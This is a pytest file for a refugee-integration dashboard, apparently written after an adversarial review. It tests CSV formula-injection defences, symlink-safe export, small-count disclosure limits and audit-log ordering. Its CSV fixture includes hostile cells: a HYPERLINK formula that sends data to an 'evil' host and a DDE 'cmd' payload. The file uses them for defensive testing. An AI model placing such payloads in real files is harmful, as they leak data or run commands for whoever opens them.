"""Findings of the attacker's review of issues 14 and 15 (one test per finding)."""

from __future__ import annotations

import csv
import io

import polars as pl


def test_a_csv_download_never_hands_excel_a_formula_from_outside():
    """User claims (the access log), file names (Datakvalitet) and other outside text reach
    CSV downloads: a cell starting with = + - @ is run by Excel (CSV injection). Numbers,
    negative ones too, stay numbers."""
    from dashboard import ui

    frame = pl.DataFrame(
        {
            "Bruker": ['=HYPERLINK("http://evil/"&A1;"x")', "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "a@test.no"],
            "Fil": ["-2+3.csv", "\t=1", "ok.csv", ""],
            "Tall": ["-3", "-1,5", "1 234", "-12 %"],
        }
    )
    text = ui.csv_bytes(frame).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
    cells = [cell for row in rows for cell in row[:2] if cell]
    assert cells and all(not c.startswith(("=", "+", "-", "@", "\t")) for c in cells), cells
    assert [row[2] for row in rows] == ["-3", "-1,5", "1 234", "-12 %"]


def _tiny_warehouse(path) -> None:
    """The tables `pathways export` reads, with one person and one event."""
    import duckdb

    with duckdb.connect(str(path)) as con:
        for schema in ("core", "staging", "reference"):
            con.execute(f"create schema {schema}")
        con.execute("""create table core.event as select 'P1' as person_id, date '2024-01-02' as event_date,
                       'intro' as source, 'intro' as stage, 'started' as event_type, 'intro_5001_20240101.csv'
                       as source_file, '5001' as municipality_code, null::VARCHAR as school_orgnr,
                       null::VARCHAR as detail, null::VARCHAR as programme""")
        con.execute("""create table staging.stg_trondelag_model as select 'P1' as person_id,
                       date '2024-01-02' as event_date, 'x' as source_file, 'TM-1' as case_id""")
        con.execute("""create table core.person as select 'P1' as person_id, 'K' as sex, 1990 as birth_year,
                       'Syria' as country_background, 'refugee' as immigration_reason,
                       date '2023-12-01' as settlement_date, '5001' as settlement_municipality_code""")
        con.execute(
            "create table reference.municipality as select '5001' as municipality_code, 'Trondheim' "
            "as municipality_name"
        )
        con.execute("create table reference.school (school_orgnr VARCHAR, school_name VARCHAR)")


def test_the_export_never_writes_through_a_planted_link_or_into_a_folder_it_does_not_own(tmp_path, monkeypatch):
    """`--out` a folder someone else could write to before: a link planted as events.parquet
    used to be written through (overwriting whatever it points at, or handing the person-level
    file to the planter's own file), and a folder another account owns was silently left as
    it was (restrict skips it) with the files inside."""
    import os
    import stat

    import pytest

    from flows import export

    monkeypatch.setenv("PATHWAYS_HOME", str(tmp_path / "home"))
    warehouse = tmp_path / "w.duckdb"
    _tiny_warehouse(warehouse)
    out = tmp_path / "shared"
    out.mkdir(mode=0o777)
    os.chmod(out, 0o777)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    os.chmod(victim, 0o666)
    (out / "events.parquet").symlink_to(victim)
    export.export(warehouse, out)
    assert victim.read_text() == "keep me", "the export wrote through a link planted in its folder"
    assert not (out / "events.parquet").is_symlink()
    assert pl.read_parquet(out / "events.parquet")["person_id"].to_list() == ["P1"]
    for name in ("pathways.ocel.json", *export.PARQUET_FILES):
        assert stat.S_IMODE((out / name).stat().st_mode) & 0o007 == 0, name
    assert stat.S_IMODE(out.stat().st_mode) & 0o007 == 0
    assert not list(out.glob(".*.tmp"))

    link = tmp_path / "link"
    link.symlink_to(out)
    with pytest.raises(PermissionError):
        export.export(warehouse, link)
    monkeypatch.setattr(os, "geteuid", lambda: os.getuid() + 1)  # as if another account owned `out`
    with pytest.raises(PermissionError, match="another account"):
        export.export(warehouse, out)


def test_a_step_of_the_curve_never_tells_that_fewer_than_five_did_not_reach_the_outcome():
    """Seven persons settled, five reach work in month 3, two are still without work at month
    10. The curve stepped to 71 % at month 3 (= 5/7) with "7 at risk" beside it: 2 persons did
    not reach work, a count under 5 read off the curve. The curve now ends at month 2."""
    from dashboard import survival

    table = survival.kaplan_meier(pl.Series([3] * 5 + [10] * 2), pl.Series([True] * 5 + [False] * 2))
    curve = survival.shown_curve(table)
    assert curve["share_reached"].to_list() == [0.0] * curve.height and curve["month"].max() == 2
    assert survival.summary(table)["median_months"] is None
    # ten persons, five reach work in month 3: five remain, the step may be shown
    table = survival.kaplan_meier(pl.Series([3] * 5 + [10] * 5), pl.Series([True] * 5 + [False] * 5))
    assert dict(survival.shown_curve(table).iter_rows())[3] == 50.0


def test_the_norwegian_level_by_country_never_names_a_rare_country_nor_appears_only_when_someone_is_there():
    """The country filter lists only countries of at least 5 persons in the county. The new
    Norsknivå table by country grouped on every country present: a row "Mongolia <5" told
    that 1–4 persons from it are in the county (or in the user's municipality)."""
    import duckdb

    from dashboard import disclosure, queries

    con = duckdb.connect()
    con.execute("create schema core")
    con.execute("create schema dash")
    people = [
        (f"P{i}", "SYR" if i < 10 else "ERI" if i < 16 else "MNG", "5001" if i != 12 else "5006") for i in range(17)
    ]
    con.execute("create table core.person (person_id VARCHAR, country_background VARCHAR)")
    con.executemany("insert into core.person values (?, ?)", [p[:2] for p in people])
    con.execute("""create table dash.norwegian_level (person_id VARCHAR, record_key BIGINT, country_background VARCHAR,
                   municipality_code VARCHAR, cefr_level VARCHAR, b1_or_above BOOLEAN)""")
    con.executemany(
        "insert into dash.norwegian_level values (?, ?, ?, ?, 'B1', true)",
        [(p, 1000 + i, c, m) for i, (p, c, m) in enumerate(people)],
    )
    for scope in (queries.COUNTY, ("5006",)):
        f = queries.Filters(scope=scope)
        b1 = disclosure.publish(queries.norwegian_b1(con, f, "country"))
        levels = disclosure.publish(queries.norwegian_levels(con, f, "country"))
        assert sorted(b1["grp"]) == ["ERI", "SYR", "andre land"], scope  # never MNG; ERI even where nobody is
        assert set(levels["grp"]) == {"ERI", "SYR", "andre land"}, scope
    only_5006 = disclosure.publish(queries.norwegian_b1(con, queries.Filters(scope=("5006",)), "country"))
    assert only_5006["persons"].null_count() == 3  # every row "<5", the empty ones too


def test_no_export_is_written_when_it_cannot_be_recorded_in_the_access_log(tmp_path, monkeypatch):
    """The export was recorded after its files were written: an access log that cannot be
    written (full disk, wrong owner) left person-level files behind with no entry."""
    import pytest

    from dashboard import access_log
    from flows import export

    monkeypatch.setenv("PATHWAYS_HOME", str(tmp_path / "home"))
    warehouse = tmp_path / "w.duckdb"
    _tiny_warehouse(warehouse)

    def refuse(*args, **kwargs):
        raise OSError("no space left on device")

    monkeypatch.setattr(access_log, "append", refuse)
    with pytest.raises(OSError):
        export.export(warehouse, tmp_path / "out")
    assert not [p for p in (tmp_path / "out").iterdir() if p.suffix in (".json", ".parquet")]
